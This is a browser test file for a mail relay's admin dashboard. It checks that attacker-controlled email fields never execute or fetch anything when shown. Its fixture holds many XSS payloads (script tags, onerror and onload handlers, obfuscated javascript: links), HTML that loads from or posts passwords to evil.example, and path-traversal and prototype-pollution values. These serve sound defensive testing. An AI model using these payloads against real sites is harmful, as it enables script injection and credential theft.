import { assert, assertEquals } from "@std/assert";
import type { Page } from "playwright-core";
import type { RelayEvent } from "../../src/admin/ports.ts";
import type { Letter } from "../admin/views/fixture/letters.ts";
import { serveDashboard, type ServedDashboard } from "../admin/views/fixture/serve.ts";
import { HAVE_CHROMIUM, LOOKS, openPage, startBrowser } from "./browser.ts";

const SCRIPT = `<script>alert("ran")</script>`;
const IMAGE = `"><img src=x onerror=alert("ran")>`;
const QUOTES = `' onmouseover='alert("ran")' hostile='`;

/** Everything that a sender chooses, chosen by somebody who means harm. */
const HOSTILE: Letter = {
  ageMs: 60_000,
  reversePath: `"${IMAGE}"@evil.example`,
  from: `${SCRIPT} <evil@evil.example>`,
  to: [`"${SCRIPT}"@victim.example`, `"${QUOTES}"@victim.example`],
  subject: `${SCRIPT}${IMAGE}${QUOTES}\u202Etxt.exe`,
  user: `${IMAGE}`,
  tls: SCRIPT,
  text: `${SCRIPT}</pre>${IMAGE}`,
  html: [
    `<html><head>${SCRIPT}<base href="https://evil.example/">`,
    `<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">`,
    `<link rel="stylesheet" href="https://evil.example/style.css">`,
    `<style>@import url(https://evil.example/import.css);body{background:url(https://evil.example/b)}`,
    `</style></head><body onload=alert("ran") background="https://evil.example/background">`,
    `${SCRIPT}<img src="https://evil.example/pixel.gif" onerror=alert("ran")>`,
    `<svg onload=alert("ran")><script>alert("ran")</script></svg>`,
    `<iframe src="javascript:alert('ran')"></iframe><object data="https://evil.example/o"></object>`,
    `<a href="java&#115;cript:alert('ran')" id="link">click</a>`,
    `<form action="https://evil.example/form"><input name="password"><button>Send</button></form>`,
    `<p style="background:url('https://evil.example/css')">The visible text</p>`,
    `<video poster="https://evil.example/poster"></video><math><mi xlink:href="javascript:1"></mi>`,
    "</body></html>",
  ].join("\r\n"),
  attachments: [
    { name: `${IMAGE}.html`, type: "text/html" },
    { name: "../../../etc/passwd", type: "image/svg+xml" },
  ],
  attempts: [{
    afterMs: 10,
    kind: "temporary",
    reply: `451 4.7.1 ${SCRIPT}${IMAGE}`,
    durationMs: 12,
    remote: `${IMAGE}[192.0.2.1]:25`,
    tls: QUOTES,
  }],
  nextInMs: 60_000,
};

const EVENTS: readonly RelayEvent[] = [
  { type: "trouble", level: "error", component: SCRIPT, message: IMAGE, cause: new Error(SCRIPT) },
  {
    type: "command_refused",
    sessionId: "s",
    listener: IMAGE,
    clientAddress: SCRIPT,
    verb: QUOTES,
    reply: `550 ${SCRIPT}`,
  },
  {
    type: "destination_down",
    transport: QUOTES,
    destination: `${SCRIPT}${IMAGE}`,
    reason: IMAGE,
  },
];

/** A relay to which all of it happened. */
async function attacked(): Promise<ServedDashboard> {
  const served = await serveDashboard({ letters: [HOSTILE] });
  for (const event of EVENTS) served.relay.emit(event);
  for (const list of [served.relay.destinations, served.relay.transports]) {
    const [first] = list;
    if (first === undefined) continue;
    Object.assign(first, {
      name: `${SCRIPT}${IMAGE}`,
      state: "down",
      lastError: { text: `${SCRIPT}${QUOTES}`, atMs: Date.now() },
      pause: { reason: IMAGE, by: SCRIPT, sinceMs: Date.now(), untilMs: null },
    });
  }
  return served;
}

async function messageId({ relay }: ServedDashboard): Promise<string> {
  const { items } = await relay.store.list({ filter: {}, limit: 1 });
  return items[0]?.message.id ?? "";
}

/** Elements and attributes that only a message could have brought. */
async function foreignParts(page: Page): Promise<unknown> {
  return await page.evaluate(`[...document.querySelectorAll("*")].filter((element) =>
    element.nodeName === "SCRIPT" && !element.src.startsWith(location.origin + "/assets/") ||
    element.nodeName === "IMG" ||
    [...element.attributes].some(({ name }) => name.startsWith("on") || name === "hostile"))
    .map((element) => element.outerHTML)`);
}

Deno.test({
  name: "nothing that a sender writes runs or fetches anything (needs chromium)",
  ignore: !HAVE_CHROMIUM,
  async fn(t) {
    await using served = await attacked();
    await using browser = await startBrowser();
    await using watched = await openPage(browser, { url: served.url });
    const { page, troubles } = watched;
    const id = await messageId(served);
    const addresses = [
      ...["/", "/queue", "/queue?view=all", "/queue/confirm?action=cancel&view=live", "/log"],
      ...["/destinations", "/transports", "/routes"],
      ...["", "?show=html", "?show=headers", "?show=source"].map((show) =>
        `/messages/${id}${show}`
      ),
      `/queue?recipient=${encodeURIComponent(IMAGE)}`,
      `/queue?domain=${encodeURIComponent(SCRIPT)}&minAgeMs=${encodeURIComponent(IMAGE)}`,
      `/queue?${encodeURIComponent(IMAGE)}=${encodeURIComponent(SCRIPT)}`,
      `/log?text=${encodeURIComponent(IMAGE)}&kind=constructor&level=__proto__`,
      `/destinations?text=${encodeURIComponent(IMAGE)}&view=toString`,
      `/destinations/pause?name=${encodeURIComponent(IMAGE)}`,
      `/routes?to=${encodeURIComponent(SCRIPT)}&user=${encodeURIComponent(IMAGE)}`,
      `/preflight?domain=${encodeURIComponent(IMAGE)}`,
      `/compose?to=${encodeURIComponent(IMAGE)}`,
      `/messages/${encodeURIComponent(SCRIPT)}`,
      `/${encodeURIComponent(SCRIPT)}`,
      `/queue?did=${encodeURIComponent(SCRIPT)}&n=${encodeURIComponent(SCRIPT)}`,
      `/login?next=${encodeURIComponent(`javascript:alert("ran")`)}`,
    ];
    for (const address of addresses) {
      await t.step(address.slice(0, 70), async () => {
        troubles.length = 0;
        const response = await page.goto(address);
        assertEquals(await foreignParts(page), []);
        const status = `status of ${response?.status()}`;
        assertEquals(troubles.filter((text) => !text.includes(status)), []);
      });
    }

    await t.step("the frame shows the message and is a world of its own", async () => {
      troubles.length = 0;
      await page.goto(`/messages/${id}?show=html`);
      const frame = page.frameLocator("iframe");
      await frame.getByText("The visible text").waitFor();
      assertEquals(await frame.locator("script, form, iframe, object, link, base, svg").count(), 0);
      await frame.getByText("click").click();
      assertEquals(page.context().pages().length, 1);
      assertEquals(troubles, []);
    });

    await t.step("attachments are saved under harmless names and never shown", async () => {
      await page.goto(`/messages/${id}`);
      for (const [index, name] of [[0, /^[^/\\<>"]+\.html$/], [1, /^passwd$/]] as const) {
        const downloading = page.waitForEvent("download");
        await page.locator(".attachment").nth(index).click();
        const download = await downloading;
        assert(name.test(download.suggestedFilename()), download.suggestedFilename());
        await download.delete();
      }
    });

    await t.step("opened by itself, the HTML is still harmless", async () => {
      troubles.length = 0;
      await page.goto(`/api/v1/messages/${id}/html`);
      await page.getByText("The visible text").waitFor();
      assertEquals(troubles, []);
    });
  },
});

const LONG = "very-long-word-without-any-space-in-it-".repeat(60);

Deno.test({
  name: "long words break no page, on a phone neither (needs chromium)",
  ignore: !HAVE_CHROMIUM,
  async fn(t) {
    const letter: Letter = {
      ...HOSTILE,
      reversePath: `${LONG.slice(0, 300)}@example.net`,
      from: LONG.slice(0, 200),
      to: Array.from({ length: 60 }, (_, index) => `${index}-${LONG.slice(0, 250)}@example.net`),
      subject: LONG.slice(0, 200),
      text: LONG,
      attachments: [{ name: `${LONG}.pdf`, type: "application/pdf" }],
      attempts: HOSTILE.attempts.map((attempt) => ({ ...attempt, reply: `451 ${LONG}` })),
    };
    await using served = await serveDashboard({ letters: [letter] });
    await using browser = await startBrowser();
    const id = await messageId(served);
    for (const look of LOOKS.filter(({ colours }) => colours === "light")) {
      await using watched = await openPage(browser, { url: served.url, look });
      const { page } = watched;
      for (const address of ["/queue", `/messages/${id}`, `/messages/${id}?recipients=all`]) {
        await t.step(`${look.name} ${address.replace(id, "ID")}`, async () => {
          await page.goto(address);
          const wider = await page.evaluate("document.documentElement.scrollWidth - innerWidth");
          assertEquals(wider, 0);
        });
      }
    }
  },
});
